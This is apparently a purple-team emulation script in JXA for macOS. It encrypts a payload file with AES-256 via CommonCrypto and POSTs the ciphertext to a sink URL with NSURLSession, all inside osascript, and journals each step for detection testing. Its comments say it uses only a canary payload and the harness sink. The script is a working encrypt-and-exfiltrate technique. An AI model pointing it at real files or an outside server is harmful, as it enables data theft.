// Encrypt-then-upload emulation in JXA (macOS): CommonCrypto's CCCrypt through the ObjC bridge,
// then an NSURLSession POST, all inside the osascript process. Benign by construction: canary
// payload, per-run key, the harness sink only.
// usage: osascript -l JavaScript encrypt-upload.js

ObjC.import('Foundation');

// CommonCrypto constants (CommonCryptor.h).
var kCCEncrypt = 0;
var kCCAlgorithmAES = 0;
var kCCOptionPKCS7Padding = 1;
var kCCKeySizeAES256 = 32;
var kCCSuccess = 0;

// CCCrypt lives in libSystem (libcommonCrypto), which every process has loaded.
ObjC.bindFunction('CCCrypt', ['int', ['int', 'int', 'int', 'void *', 'unsigned long', 'void *', 'void *', 'unsigned long', 'void *', 'unsigned long', 'unsigned long *']]);
ObjC.bindFunction('getppid', ['int', []]);

function env(name) {
  var v = $.NSProcessInfo.processInfo.environment.objectForKey(name);
  if (!v || !v.js) throw new Error(name + ' is not set (run me through the harness)');
  return v.js;
}

// NSData from hex, through base64 because the bridge builds NSData from strings easily.
function dataFromHex(hex) {
  var alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  var bytes = [];
  for (var i = 0; i < hex.length; i += 2) bytes.push(parseInt(hex.substr(i, 2), 16));
  var b64 = '';
  for (var j = 0; j < bytes.length; j += 3) {
    var n = (bytes[j] << 16) | ((bytes[j + 1] || 0) << 8) | (bytes[j + 2] || 0);
    b64 += alphabet[(n >> 18) & 63] + alphabet[(n >> 12) & 63];
    b64 += j + 1 < bytes.length ? alphabet[(n >> 6) & 63] : '=';
    b64 += j + 2 < bytes.length ? alphabet[n & 63] : '=';
  }
  return $.NSData.alloc.initWithBase64EncodedStringOptions($(b64), 0);
}

function journal(action, details) {
  var path = $.NSProcessInfo.processInfo.environment.objectForKey('PURPLE_JOURNAL');
  if (!path || !path.js) return;
  var line = JSON.stringify({
    time_ms: Date.now(),
    action: action,
    pid: $.NSProcessInfo.processInfo.processIdentifier,
    ppid: $.getppid(),
    details: details,
  }) + '\n';
  var fm = $.NSFileManager.defaultManager;
  if (!fm.fileExistsAtPath(path.js)) fm.createFileAtPathContentsAttributes(path.js, $.NSData.data, $());
  var fh = $.NSFileHandle.fileHandleForWritingAtPath(path.js);
  fh.seekToEndOfFile;
  fh.writeData($(line).dataUsingEncoding($.NSUTF8StringEncoding));
  fh.closeFile;
}

function encrypt(plain, key, iv) {
  var out = $.NSMutableData.dataWithLength(plain.length + 16);
  var moved = Ref('unsigned long');
  var status = $.CCCrypt(kCCEncrypt, kCCAlgorithmAES, kCCOptionPKCS7Padding, key.bytes, kCCKeySizeAES256, iv.bytes, plain.bytes, plain.length, out.mutableBytes, out.length, moved);
  if (status !== kCCSuccess) throw new Error('CCCrypt failed with status ' + status);
  out.setLength(moved[0]);
  return out;
}

function upload(url, token, body) {
  var req = $.NSMutableURLRequest.requestWithURL($.NSURL.URLWithString(url));
  req.setHTTPMethod('POST');
  req.setValueForHTTPHeaderField(token, 'X-Purple-Token');
  req.setValueForHTTPHeaderField('application/octet-stream', 'Content-Type');
  req.setHTTPBody(body);
  var state = { done: false, status: 0, error: '' };
  var task = $.NSURLSession.sharedSession.dataTaskWithRequestCompletionHandler(req, function (data, response, error) {
    if (error && !error.isNil()) state.error = ObjC.unwrap(error.localizedDescription);
    else state.status = response.statusCode;
    state.done = true;
  });
  task.resume;
  // The completion handler runs on the run loop; spin it until the request ends (30 s at most).
  var deadline = Date.now() + 30000;
  while (!state.done && Date.now() < deadline) $.NSRunLoop.currentRunLoop.runUntilDate($.NSDate.dateWithTimeIntervalSinceNow(0.05));
  if (!state.done) throw new Error('upload timed out');
  if (state.error) throw new Error('upload failed: ' + state.error);
  if (state.status >= 300) throw new Error('sink answered ' + state.status);
}

function run(argv) {
  journal('start', { script: 'encrypt-upload.js' });
  try {
    var plain = $.NSData.dataWithContentsOfFile(env('PURPLE_PAYLOAD'));
    var body = encrypt(plain, dataFromHex(env('PURPLE_KEY_HEX')), dataFromHex(env('PURPLE_IV_HEX')));
    if (!body.writeToFileAtomically(env('PURPLE_OUT'), true)) throw new Error('cannot write ' + env('PURPLE_OUT'));
    journal('encrypt', { tool: 'jxa-commoncrypto', cipher: 'aes-256-cbc-raw', bytes: body.length });
    var url = env('PURPLE_SINK_URL');
    upload(url, env('PURPLE_SINK_TOKEN'), body);
    journal('upload', { tool: 'nsurlsession', protocol: 'http', destination: url.split('://')[1].split('/')[0], bytes: body.length });
  } catch (e) {
    journal('note', { error: String(e) });
    journal('exit', { code: 1 });
    throw e;
  }
  journal('exit', { code: 0 });
}
